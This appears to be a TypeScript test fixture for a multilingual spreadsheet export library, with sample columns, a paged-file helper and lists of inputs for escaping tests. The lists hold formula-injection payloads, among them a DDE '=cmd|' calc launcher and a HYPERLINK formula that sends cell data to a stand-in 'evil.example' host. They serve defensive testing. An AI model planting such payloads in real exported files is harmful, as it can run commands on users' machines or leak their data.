import { textOf } from '@lebean/contract/kernel/export-words';
// For tests: a small file with a column of each kind, and what people try to smuggle into one.
import type { WrittenColumn } from '@lebean/contract/vocabulary/export-column';
import type { FileParts } from './file-parts.ts';

export interface Sample {
  readonly text: string | null;
  readonly amount: number | null;
  readonly at: string | null;
  readonly isOpen: boolean | null;
}

export const sampleColumns: readonly WrittenColumn<Sample>[] = [
  { title: { zh: '文本', en: 'Text', es: 'Texto' }, kind: 'text', value: ({ text }) => text },
  {
    title: { zh: '金额', en: 'Amount', es: 'Importe' },
    kind: 'hundredths',
    value: ({ amount }) => amount,
  },
  { title: { zh: '数量', en: 'Count', es: 'Número' }, kind: 'integer', value: (row) => row.amount },
  { title: { zh: '折扣', en: 'Share', es: 'Parte' }, kind: 'percent', value: (row) => row.amount },
  { title: { zh: '时间', en: 'When', es: 'Cuándo' }, kind: 'instant', value: ({ at }) => at },
  {
    title: { zh: '状态', en: 'State', es: 'Estado' },
    kind: 'word',
    value: ({ isOpen }) =>
      isOpen === null ? null : textOf((language) => `${language} ${isOpen ? 'open' : 'shut'}`),
  },
];

/** Texts that spreadsheets have taken for formulas (W4). */
export const formulas = [
  '=1+1',
  '+1',
  '-2+3',
  '@SUM(A1:A9)',
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u3000=1+1',
  '\uFEFF=1+1',
  '-',
  '\u200C=1+1',
  '\u2060=1+1',
  '\u00AD=1+1',
  '\u202E=1+1',
  '"=1+1',
  '﹦1+1',
  '\t\t=1+1',
  '\r\n=1+1',
  '=1;=2',
];

/** Texts within which a cell begins where a file is read with another separator than it has (W4). */
export const hiddenFormulas = [
  `Ana;=cmd|'/C calc'!A0`,
  'Ana; =1+1',
  'Ana;"=1+1"',
  'Ana;""=1+1',
  'Ana;\u200B=1+1',
  'Ana;\u202E＝1+1',
  'Ana;;=1+1',
  'Ana;b;@SUM(1)',
  'Ana\t=1+1',
  'Ana\t-1+1',
  'Ana\r=1',
  'x\n+1',
  'x\r\n=1',
  'x\n;\t =1',
  ';=1+1',
  '"x;=1',
];

/** Texts that are no formulas and have to arrive as they are. */
export const plainTexts = [
  'plain',
  'with, comma',
  'with "quotes"',
  'two\nlines',
  'two\r\nlines',
  ' blanks around ',
  '欧阳娜娜',
  '👩‍🚀🎮',
  '<b>&amp;</b>',
  '_x0041_ and _x005F_',
  '7',
  '0013',
  'a=b',
  'Ana; b = c',
  'a - b; c@d.example',
  "O'Neill",
  '',
  `long ${'x'.repeat(30_000)}`,
];

/** The parts of a file of sample rows. */
export function sampleFile(
  rows: readonly Partial<Sample>[],
  requested: Partial<Pick<FileParts<Sample>, 'language' | 'timeZone'>> = {},
  partSize = 7,
): FileParts<Sample> {
  const empty: Sample = { text: null, amount: null, at: null, isOpen: null };
  async function* parts(): AsyncGenerator<Sample[]> {
    for (let from = 0; from < rows.length; from += partSize)
      yield rows.slice(from, from + partSize).map((row) => ({ ...empty, ...row }));
  }
  return {
    columns: sampleColumns,
    title: 'Sample',
    language: 'en',
    timeZone: 'UTC',
    ...requested,
    rows: parts(),
  };
}

/** All pieces of a file as one. */
export async function allOf(pieces: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const found: Uint8Array[] = [];
  for await (const piece of pieces) found.push(piece);
  return Buffer.concat(found);
}
